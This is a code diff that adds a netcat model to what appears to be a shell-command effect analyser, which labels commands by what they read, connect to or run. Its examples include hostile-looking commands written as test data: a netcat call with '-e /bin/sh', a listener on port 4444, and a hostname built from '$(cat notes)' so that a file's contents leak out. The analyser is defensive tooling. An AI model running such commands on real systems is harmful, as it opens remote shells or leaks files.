@@ -3,7 +3,7 @@ import { carriesOutput, prefixOf, textOf } from "../../shell/value.ts";
 import { mayHave, readArguments } from "../arguments.ts";
 import type { CommandModel, Use } from "../commandModel.ts";
 import type { Effect } from "../effect.ts";
-import { effectOn, nothing, readsFrom } from "../fileEffects.ts";
+import { effectOn, nothing, opaque, readsFrom } from "../fileEffects.ts";
 
 /** Programs that speak with other machines. */
 export const network: readonly CommandModel[] = [
@@ -34,7 +34,38 @@ export const network: readonly CommandModel[] = [
     },
     counterExamples: ["ip addr", "ss -ltnp", "dig example.com"],
   },
+  {
+    names: ["nc", "ncat", "netcat"],
+    kind: "system",
+    effects: connected,
+    examples: {
+      "nc -zv -w 2 localhost 5432": ["connect none host:localhost:?"],
+      "nc -l 4444": ["execute none process:nc (opaque)"],
+      "nc -z -e /bin/sh example.com 80": ["execute none process:nc (opaque)"],
+      "nc example.com 80": ["execute none process:nc (opaque)"],
+      "nc -z $(cat notes).example.com 80": ["read none ./notes", "connect remote host:?:?"],
+    },
+    counterExamples: ["nc -z -w1 127.0.0.1 8080"],
+  },
 ];
+
+/** With `-z` it only looks whether something listens. Everything else sends what it reads, listens, or runs a program. */
+function connected(use: Use): readonly Effect[] {
+  const { options, operands, unclear } = readArguments(use.args, optionNames("-w"));
+  const looks = options.some(({ name }) => name === "-z") && options.every(({ name }) => /^-[zvnwu46]$/.test(name));
+  const [host, ...ports] = operands;
+  if (!looks || host === undefined || unclear.some((word) => word !== host))
+    return [opaque(use, `${use.program} connects, listens or runs a program, and passes on what it gets`)];
+  const carries = carriesOutput(host) || ports.some(carriesOutput);
+  const because = `${use.program} -z looks whether something listens there`;
+  return [
+    effectOn(
+      { scheme: "host", name: `${textOf(host) ?? "?"}:?` },
+      { verb: "connect", loses: carries ? "remote" : "none", because },
+      use,
+    ),
+  ];
+}
 
 function looking(use: Use): readonly Effect[] {
   const { options, operands } = readArguments(use.args, optionNames("-c -i -n -s -w -W -t -p -q -m -I -4 -6 -D -f"));
